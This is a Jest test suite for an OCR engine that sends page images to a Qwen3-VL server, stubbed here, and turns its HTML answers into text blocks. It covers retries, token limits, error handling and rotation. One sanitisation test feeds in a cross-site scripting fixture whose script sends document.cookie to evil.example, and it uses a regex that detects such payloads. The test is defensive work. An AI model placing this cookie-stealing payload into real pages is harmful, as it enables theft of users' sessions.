import { PageFailedError, type PageImage } from '../../src/ocr/engine';
import { QwenVllmEngine, type QwenVllmEngineOptions } from '../../src/ocr/qwen-vllm-engine';
import type { OrientationDetector } from '../../src/ocr/qwen-orientation';
import { assembleDocument } from '../../src/pipeline/assemble';
import { openRasterDocument } from '../../src/pipeline/rasterize';
import { textPdf } from '../pipeline/support/documents';
import { OpenAiStubServer, blankPage, textPage, type ScriptedReply } from './support/openai-stub-server';
import { CHECKLIST_FORM, LOOP, LOOP_THAT_STOPS, SIGN_IN_SHEET, SIGN_IN_SHEET_ENDING_IN_ROWS, ZERO_ROWS_TABLE } from './support/qwen-answers';

const MODEL = 'Qwen/Qwen3-VL-8B-Instruct';
const GOOD = [
  '<html><body>',
  '<h1 data-bbox="100 50 900 100">Invoice 4711</h1>',
  '<div class="text" data-bbox="100 150 500 300">Dear customer, please pay.</div>',
  '<div class="table" data-bbox="-2 400 1003 600"><table><tr><td>Item</td><td>Price</td></tr></table></div>',
  '</body></html>',
].join('\n');

describe('QwenVllmEngine against an OpenAI-compatible server replaying Qwen3-VL answers', () => {
  let server: OpenAiStubServer;
  let page: PageImage;
  const engines: QwenVllmEngine[] = [];
  const engine = (options: Partial<QwenVllmEngineOptions> = {}): QwenVllmEngine => {
    const created = QwenVllmEngine.create({ baseUrl: server.baseUrl, model: MODEL, orientation: 'none', retryDelayMs: 0, maxTokens: 2048, ...options });
    engines.push(created);
    return created;
  };
  const replies = (...script: ScriptedReply[]): void => {
    server.script = (_request, i) => script[Math.min(i, script.length - 1)]!;
  };

  beforeAll(async () => {
    server = await OpenAiStubServer.start();
    page = await textPage(400, 600);
  });
  afterEach(async () => {
    await Promise.all(engines.splice(0).map((e) => e.close()));
    await until(() => server.inFlight === 0);
    server.reset();
  });
  afterAll(() => server.close());

  it('sends one user message with the page as a PNG data URI, then `qwenvl html`, with a token cap, temperature 0 and log-probabilities', async () => {
    // Prepare
    replies({ content: GOOD });

    // Act
    await engine().recognize({ ...(await textPage(400, 600, { format: 'rgba' })), page: 3 });

    // Assess
    const [request] = server.requests;
    expect(request!.messages).toHaveLength(1);
    expect(request!.messages[0]!.role).toBe('user');
    expect(request!.messages[0]!.content.map((c) => c.type)).toEqual(['image_url', 'text']);
    expect(request!.messages[0]!.content[0]!.image_url!.url).toMatch(/^data:image\/png;base64,/);
    const prompt = await server.promptOf(0);
    expect(prompt.text).toEqual(['qwenvl html']);
    expect(prompt.image).toEqual({ width: 400, height: 600, hasAlpha: false });
    expect(request).toMatchObject({ model: MODEL, max_tokens: 2048, temperature: 0, logprobs: true });
    expect(request).not.toHaveProperty('mm_processor_kwargs');
  });

  it('turns good HTML with 0–1000 boxes into blocks in page pixels, clamped to the page, with kinds and confidences', async () => {
    // Prepare
    replies({ content: GOOD, logprob: Math.log(0.9) });

    // Act
    const result = await engine().recognize({ ...page, page: 2 });

    // Assess
    expect(result).toMatchObject({ page: 2, width: 400, height: 600, engine: `vllm/${MODEL}`, rotation: 0 });
    expect(result.blocks.map((b) => [b.kind, b.bbox])).toEqual([
      ['heading', [40, 30, 360, 60]],
      ['text', [40, 90, 200, 180]],
      ['table', [0, 240, 400, 360]],
    ]);
    expect(result.confidence).toBeCloseTo(0.9, 6);
    expect(result.blocks.every((b) => Math.abs(b.confidence! - 0.9) < 1e-6)).toBe(true);
    const assembled = assembleDocument([result]);
    expect(assembled.text).toBe('Invoice 4711\nDear customer, please pay.\nItem\tPrice');
    expect(assembled.html).toContain('data-bbox="40 90 200 180"');
    expect(assembled.html).not.toMatch(/data-bbox="(100 50|-2)/); // the model's own units never leak
  });

  it('uses HTML without any boxes, each block with a null box', async () => {
    // Prepare
    replies({ content: '<html><body><h2>Minutes</h2><p>The meeting opened at nine.</p></body></html>' });

    // Act
    const result = await engine().recognize(page);

    // Assess
    expect(result.blocks.map((b) => [b.kind, b.bbox])).toEqual([
      ['heading', null],
      ['text', null],
    ]);
    expect(assembleDocument([result]).text).toBe('Minutes\nThe meeting opened at nine.');
  });

  it('uses HTML inside a code fence with prose around it, and drops the prose', async () => {
    // Prepare
    const content = `Sure! Here is the document as HTML:\n\n\`\`\`html\n${GOOD}\n\`\`\`\n\nLet me know if you need anything else.`;
    replies({ content });

    // Act
    const result = await engine().recognize(page);

    // Assess
    const text = assembleDocument([result]).text;
    expect(result.blocks).toHaveLength(3);
    expect(text).toContain('Dear customer, please pay.');
    expect(text).not.toMatch(/Sure|Let me know/);
  });

  it('retries a repetition loop with a higher temperature and keeps the answer that ends', async () => {
    // Prepare
    replies({ content: LOOP, finishReason: 'length' }, { content: GOOD });

    // Act
    const result = await engine().recognize(page);

    // Assess
    expect(server.requests.map((r) => r.temperature)).toEqual([0, 0.2]);
    expect(result.blocks).toHaveLength(3);
  });

  it('fails a page that loops on every attempt with `repetition` after the whole ladder, even when the model stops after 150 repeats', async () => {
    // Prepare
    replies({ content: LOOP_THAT_STOPS });

    // Act
    const failure = engine({ temperatures: [0, 0.3, 0.6] }).recognize(page);

    // Assess
    await expect(failure).rejects.toEqual(new PageFailedError(`vllm/${MODEL}`, 'repetition', 3));
    expect(server.requests.map((r) => r.temperature)).toEqual([0, 0.3, 0.6]);
  });

  it.each([
    ['a 40-row "☐ Yes ☐ No" checklist', CHECKLIST_FORM],
    ['16 "Name: ____ Date: ____" lines', SIGN_IN_SHEET],
    ['30 table rows of 0.00', ZERO_ROWS_TABLE],
  ])('keeps a form with %s, followed by the rest of the form, on the first attempt', async (_name, content) => {
    // Prepare
    replies({ content });

    // Act
    const result = await engine().recognize(page);

    // Assess
    expect(server.requests).toHaveLength(1);
    expect(result.blocks.length).toBeGreaterThan(0);
    expect(assembleDocument([result]).text).toMatch(/Signature of the nurse|front desk|2,230\.00/);
  });

  it('keeps a blank sign-in sheet whose answer ends, with `stop`, in 40 identical rows', async () => {
    // Prepare
    replies({ content: SIGN_IN_SHEET_ENDING_IN_ROWS });

    // Act
    const result = await engine().recognize(page);

    // Assess
    expect(server.requests).toHaveLength(1);
    expect(result.blocks).toHaveLength(41);
  });

  it('still takes the same 40 rows for a loop when the token cap cut the answer off in them', async () => {
    // Prepare
    replies({ content: SIGN_IN_SHEET_ENDING_IN_ROWS.replace('</body></html>', ''), finishReason: 'length' });

    // Act
    const failure = engine({ temperatures: [0] }).recognize(page);

    // Assess
    await expect(failure).rejects.toMatchObject({ reason: 'repetition', attempts: 1 });
  });

  it('retries a page cut off without a loop at the same temperature with the token ceiling, and keeps the answer that ends', async () => {
    // Prepare
    replies({ content: '<html><body><div class="text" data-bbox="1 1 999 100">A long page that did not', finishReason: 'length' }, { content: GOOD });

    // Act
    const result = await engine({ maxTokens: 2048, maxTokensCeiling: 6000 }).recognize(page);

    // Assess
    expect(server.requests.map((r) => [r.temperature, r.max_tokens])).toEqual([
      [0, 2048],
      [0, 6000],
    ]);
    expect(result.blocks).toHaveLength(3);
  });

  it('gives a dense page whose rows of zeros are cut off more tokens, rather than taking it for a loop', async () => {
    // Prepare: the cap lands after the repeated rows, in the totals.
    const cut = ZERO_ROWS_TABLE.slice(0, ZERO_ROWS_TABLE.indexOf('980.00'));
    replies({ content: cut, finishReason: 'length' }, { content: ZERO_ROWS_TABLE });

    // Act
    const result = await engine().recognize(page);

    // Assess
    expect(server.requests.map((r) => r.max_tokens)).toEqual([2048, 12_288]);
    expect(assembleDocument([result]).text).toContain('2,230.00');
  });

  it('fails a page still cut off at the token ceiling with `length`, after climbing the ladder at the ceiling', async () => {
    // Prepare
    replies({ content: '<html><body><div class="text" data-bbox="1 1 999 100">A long page that did not', finishReason: 'length' });

    // Act
    const failure = engine({ temperatures: [0, 0.5], maxTokens: 2048, maxTokensCeiling: 6000 }).recognize(page);

    // Assess
    await expect(failure).rejects.toMatchObject({ name: 'PageFailedError', reason: 'length', attempts: 3 });
    expect(server.requests.map((r) => [r.temperature, r.max_tokens])).toEqual([
      [0, 2048],
      [0, 6000],
      [0.5, 6000],
    ]);
  });

  it('asks for 8192 tokens by default, and for at most 12288 on a retry, so ~2.5k image tokens still fit 16384', async () => {
    // Prepare
    replies({ content: 'cut', finishReason: 'length' });
    const e = QwenVllmEngine.create({ baseUrl: server.baseUrl, model: MODEL, orientation: 'none', temperatures: [0] });
    engines.push(e);

    // Act
    const failure = e.recognize(page);

    // Assess
    await expect(failure).rejects.toMatchObject({ reason: 'length', attempts: 2 });
    expect(server.requests.map((r) => r.max_tokens)).toEqual([8192, 12_288]);
  });

  it('retries malformed HTML that yields no block, and uses the next good answer', async () => {
    // Prepare
    replies({ content: '<html><body><div class="text" data-bbox="10 10 900 80"</body></html>' }, { content: GOOD });

    // Act
    const result = await engine().recognize(page);

    // Assess
    expect(server.requests).toHaveLength(2);
    expect(result.blocks).toHaveLength(3);
  });

  it('fails a page whose every answer is malformed, or prose with no markup, with `malformed`', async () => {
    // Prepare
    replies({ content: '<div class="table"><table><tr><td>' }, { content: 'I am sorry, I cannot read this image.' });

    // Act
    const failure = engine({ temperatures: [0, 0.5] }).recognize(page);

    // Assess
    await expect(failure).rejects.toMatchObject({ reason: 'malformed', attempts: 2 });
  });

  it('keeps an answer with injected script, handlers, styles and remote URLs inert in the assembled document', async () => {
    // Prepare
    const content = [
      '<html><head><script>steal()</script><style>body{display:none}</style></head><body>',
      '<script>fetch("https://evil.example/x?c="+document.cookie)</script>',
      '<div class="text" data-bbox="100 100 900 200" onclick="steal()" style="color:red">Pay <a href="javascript:steal()">here</a>',
      '<img src="https://evil.example/pixel.png" onerror="steal()"><iframe src="https://evil.example"></iframe><script>steal()</script></div>',
      '<p onmouseover="steal()">Thanks <svg onload="steal()"><use href="https://evil.example/#x"/></svg></p>',
      '</body></html>',
    ].join('');
    replies({ content });

    // Act
    const result = await engine().recognize(page);
    const assembled = assembleDocument([result]);

    // Assess
    const body = assembled.html.slice(assembled.html.indexOf('<body>'));
    expect(body).not.toMatch(/<script|<style|<iframe|<svg|<img|<a[\s>]|\son\w+=|style=|src=|href=|javascript:|evil\.example|steal/i);
    expect(assembled.text).toBe('Pay here\nThanks');
    expect(JSON.stringify(assembled.json)).not.toMatch(/script|steal|evil/i);
  });

  it.each([
    ['an empty answer', ''],
    ['an empty document', '<html><body></body></html>'],
    ['an empty document in a fence', '```html\n<html>\n<body>\n</body>\n</html>\n```'],
  ])('reads %s as a page without blocks and without confidence', async (_name, content) => {
    // Prepare
    replies({ content });

    // Act
    const result = await engine().recognize(page);

    // Assess
    expect(result).toMatchObject({ blocks: [], confidence: null });
    expect(server.requests).toHaveLength(1);
  });

  it('does not send a blank page to the model at all', async () => {
    // Prepare
    replies({ content: '<html><body><p>Hallucinated text</p></body></html>' });

    // Act
    const result = await engine().recognize({ ...(await blankPage()), page: 4 });

    // Assess
    expect(result).toMatchObject({ page: 4, blocks: [], confidence: null, rotation: 0 });
    expect(server.requests).toHaveLength(0);
  });

  it('still sends a page that holds nothing but a page number, and drops a page with only a speck on it', async () => {
    // Prepare
    replies({ content: '<html><body><p>1</p></body></html>' });
    const doc = await openRasterDocument(await textPdf([['1']]), 'application/pdf', { dpi: 72 });
    const pageNumberOnly = await doc.render(1);
    await doc.close();
    const speck = await blankPage();
    for (const at of [300 * 400 + 200, 300 * 400 + 201]) speck.data.set([0, 0, 0, 255], 4 * at); // two black pixels
    const e = engine();

    // Act
    const numbered = await e.recognize(pageNumberOnly);
    const specked = await e.recognize(speck);

    // Assess
    expect(server.requests).toHaveLength(1);
    expect(numbered.blocks).toHaveLength(1);
    expect(specked.blocks).toEqual([]);
  });

  it('retries after an HTTP 5xx and succeeds', async () => {
    // Prepare
    replies({ status: 503 }, { content: GOOD });

    // Act
    const result = await engine().recognize(page);

    // Assess
    expect(server.requests).toHaveLength(2);
    expect(result.blocks).toHaveLength(3);
  });

  it.each([
    ['HTTP 404, a wrong model name', { status: 404, errorMessage: 'The model `qwen` does not exist.' }],
    ['HTTP 401', { status: 401 }],
    ['HTTP 403', { status: 403 }],
    ['HTTP 405', { status: 405 }],
  ])('fails a page with `server_error` at once when the server refuses it for a reason no page causes (%s)', async (_name, reply) => {
    // Prepare
    replies(reply);

    // Act
    const failure = engine().recognize(page);

    // Assess
    await expect(failure).rejects.toEqual(new PageFailedError(`vllm/${MODEL}`, 'server_error', 1));
    expect(server.requests).toHaveLength(1);
  });

  it.each([
    ['HTTP 400 over the context length', { status: 400, errorMessage: "This model's maximum context length is 16384 tokens. However, you requested 19000 tokens (17000 in the messages, 2000 in the completion)." }],
    ['HTTP 400 for a prompt too long', { status: 400, errorMessage: 'The prompt (total length 18000) is too long to fit into the model (context length 16384).' }],
    ['HTTP 400 for an image it cannot load', { status: 400, errorMessage: 'Failed to load image: cannot identify image file' }],
    ['HTTP 400 for an aspect ratio the processor refuses', { status: 400, errorMessage: 'absolute aspect ratio must be smaller than 200, got 288.0' }],
    ['HTTP 400 with a message never seen before', { status: 400, errorMessage: 'scripted error' }],
    ['HTTP 413', { status: 413 }],
    ['HTTP 422', { status: 422, errorMessage: 'Unprocessable Entity' }],
  ])('fails a page the server refuses because of the page itself (%s) with `rejected`, without retrying', async (_name, reply) => {
    // Prepare
    replies(reply);

    // Act
    const failure = engine().recognize(page);

    // Assess
    await expect(failure).rejects.toEqual(new PageFailedError(`vllm/${MODEL}`, 'rejected', 1));
    expect(server.requests).toHaveLength(1);
  });

  it('retries a server answer that is not a chat completion once, and uses the next good answer', async () => {
    // Prepare
    replies({ rawBody: '<html>proxy error' }, { content: GOOD });

    // Act
    const result = await engine().recognize(page);

    // Assess
    expect(server.requests.map((r) => r.temperature)).toEqual([0, 0]);
    expect(result.blocks).toHaveLength(3);
  });

  it.each([
    ['HTTP 503', { status: 503 }],
    ['a body that is not a chat completion', { rawBody: JSON.stringify({ choices: 'nope' }) }],
  ])('fails a page with `server_error` after one retry when the server keeps failing (%s), not after the whole ladder', async (_name, reply) => {
    // Prepare
    replies(reply);

    // Act
    const failure = engine({ temperatures: [0, 0.2, 0.5] }).recognize(page);

    // Assess
    await expect(failure).rejects.toEqual(new PageFailedError(`vllm/${MODEL}`, 'server_error', 2));
    expect(server.requests).toHaveLength(2);
  });

  it('retries a transient failure even right after another page failed, so one blip never fails a page', async () => {
    // Prepare
    replies({ status: 503 }, { status: 503 }, { status: 503 }, { content: GOOD });
    const e = engine();

    // Act
    const first = await e.recognize(page).catch((error: unknown) => error);
    const second = await e.recognize(page);

    // Assess
    expect(first).toMatchObject({ reason: 'server_error', attempts: 2 });
    expect(second.blocks).toHaveLength(3);
    expect(server.requests).toHaveLength(4);
  });

  it('retries without the delay once three server failures came in a row, and waits again once the latest is 30 s old', async () => {
    // Prepare
    replies({ status: 503 });
    let now = 1_000_000;
    const { logger, retryDelays } = retryLog();
    const e = engine({ retryDelayMs: 5, now: () => now, logger });
    const fail = (): Promise<unknown> => e.recognize(page).catch((error: unknown) => error);

    // Act
    await fail(); // failures 1 and 2
    await fail(); // 3 and 4: the server is known to be failing
    now += 30_000;
    await fail(); // the streak is forgotten: 1 and 2
    const last = await fail(); // 3 again

    // Assess
    expect(retryDelays()).toEqual([5, 0, 5, 0]);
    expect(last).toEqual(new PageFailedError(`vllm/${MODEL}`, 'server_error', 2));
    expect(server.requests).toHaveLength(8);
  });

  it('waits before a retry again once a completion ends a failing streak', async () => {
    // Prepare
    replies({ status: 503 }, { status: 503 }, { status: 503 }, { content: GOOD }, { status: 503 }, { content: GOOD });
    const { logger, retryDelays } = retryLog();
    const e = engine({ retryDelayMs: 5, now: () => 0, logger });

    // Act
    await e.recognize(page).catch(() => undefined);
    await e.recognize(page);
    await e.recognize(page);

    // Assess
    expect(retryDelays()).toEqual([5, 0, 5]);
    expect(server.requests).toHaveLength(6);
  });

  it.each([
    ['HTTP 500', { status: 500 }],
    ['a body that is not a chat completion', { rawBody: JSON.stringify({ choices: 'nope' }) }],
  ])('fails a page with `rejected` when the server fails it twice (%s) while completing another page in between', async (_name, reply) => {
    // Prepare: the first answer to this page is held back until the other page has been read.
    server.script = (_request, i) => (i === 1 ? { content: GOOD } : reply);
    let otherRead!: () => void;
    const otherPageRead = new Promise<void>((resolve) => (otherRead = resolve));
    let calls = 0;
    const heldBack: typeof fetch = async (input, init) => {
      const first = calls++ === 0;
      const response = await fetch(input, init);
      if (first) await otherPageRead;
      return response;
    };
    const e = engine({ fetch: heldBack });
    const failing = e.recognize(page).catch((error: unknown) => error);
    await until(() => server.requests.length === 1);

    // Act
    await e.recognize(page);
    otherRead();

    // Assess
    expect(await failing).toEqual(new PageFailedError(`vllm/${MODEL}`, 'rejected', 2));
    expect(server.requests).toHaveLength(3);
  });

  it('gives up on a request that takes longer than the timeout, and fails the page with `timeout` without waiting out another', async () => {
    // Prepare
    replies({ hang: true });

    // Act
    const failure = engine({ requestTimeoutMs: 100, temperatures: [0, 0.2] }).recognize(page);

    // Assess
    await expect(failure).rejects.toMatchObject({ reason: 'timeout', attempts: 1 });
    expect(server.requests).toHaveLength(1);
  });

  it('reports a timeout as `too_slow` when other requests completed while it ran: a live server, a page too slow for it', async () => {
    // Prepare
    server.script = (_request, i) => (i === 0 ? { hang: true } : { content: GOOD });
    const e = engine({ requestTimeoutMs: 1000, temperatures: [0, 0.2] });
    const slow = e.recognize(page).catch((error: unknown) => error);
    await until(() => server.requests.length === 1);

    // Act
    await e.recognize(page);

    // Assess
    expect(await slow).toEqual(new PageFailedError(`vllm/${MODEL}`, 'too_slow', 1));
    expect(server.requests).toHaveLength(2);
  });

  it('fails with `server_error` when nothing listens, each page after one quick retry', async () => {
    // Prepare
    const nobody = QwenVllmEngine.create({ baseUrl: 'http://127.0.0.1:9/v1', model: MODEL, orientation: 'none', retryDelayMs: 0, temperatures: [0, 0.2, 0.5] });
    engines.push(nobody);

    // Act
    const first = nobody.recognize(page);
    await expect(first).rejects.toBeInstanceOf(PageFailedError);
    const next = nobody.recognize(page);

    // Assess
    await expect(first).rejects.toMatchObject({ reason: 'server_error', attempts: 2 });
    await expect(next).rejects.toMatchObject({ reason: 'server_error', attempts: 2 });
  });

  it('cancels the request in flight when the caller aborts, and rejects with the abort reason', async () => {
    // Prepare
    replies({ hang: true });
    const controller = new AbortController();
    const reason = new Error('shutting down');
    const result = engine().recognize(page, { signal: controller.signal });
    await until(() => server.inFlight === 1);

    // Act
    controller.abort(reason);

    // Assess
    await expect(result).rejects.toBe(reason);
    await until(() => server.inFlight === 0);
    expect(server.abandoned).toBe(1);
    expect(server.requests).toHaveLength(1);
  });

  it('turns a page the detector finds rotated before sending it, and reports boxes in the turned pixels', async () => {
    // Prepare
    const detector: OrientationDetector = { detect: async () => 90, close: async () => undefined };
    replies({ content: '<html><body><div class="text" data-bbox="500 500 1000 1000">Sideways</div></body></html>' });

    // Act
    const result = await engine({ orientation: detector }).recognize(page);

    // Assess
    expect((await server.promptOf(0)).image).toMatchObject({ width: 600, height: 400 });
    expect(result).toMatchObject({ width: 600, height: 400, rotation: 90 });
    expect(result.blocks[0]!.bbox).toEqual([300, 200, 600, 400]);
  });

  it('keeps as many requests in flight as its concurrency, and no more', async () => {
    // Prepare
    replies({ content: GOOD, latencyMs: 100 });
    const e = engine({ concurrency: 4 });

    // Act
    const results = await Promise.all(Array.from({ length: 10 }, (_, i) => e.recognize({ ...page, page: i + 1 })));

    // Assess
    expect(results.map((r) => r.page)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
    expect(server.peakInFlight).toBe(4);
  });

  it('sends the pixel limit with each request only when one is configured', async () => {
    // Prepare
    replies({ content: GOOD });

    // Act
    await engine({ maxPixels: 2_500_000 }).recognize(page);

    // Assess
    expect(server.requests[0]).toMatchObject({ mm_processor_kwargs: { max_pixels: 2_500_000 } });
  });

  it('has no confidence to give when the server sends no log-probabilities', async () => {
    // Prepare
    replies({ content: GOOD, noLogprobs: true });

    // Act
    const result = await engine().recognize(page);

    // Assess
    expect(result.confidence).toBeNull();
    expect(result.blocks.map((b) => b.confidence)).toEqual([null, null, null]);
  });
});

/** A logger that keeps the delay before each server retry the engine logs. */
function retryLog(): { logger: NonNullable<QwenVllmEngineOptions['logger']>; retryDelays: () => unknown[] } {
  const warn = jest.fn();
  return {
    logger: { info: () => undefined, warn },
    retryDelays: () => warn.mock.calls.map(([, detail]) => (detail as { retryDelayMs?: number }).retryDelayMs).filter((ms) => ms !== undefined),
  };
}

async function until(condition: () => boolean): Promise<void> {
  for (let i = 0; i < 500 && !condition(); i += 1) await new Promise((r) => setTimeout(r, 10));
  if (!condition()) throw new Error('condition not met');
}
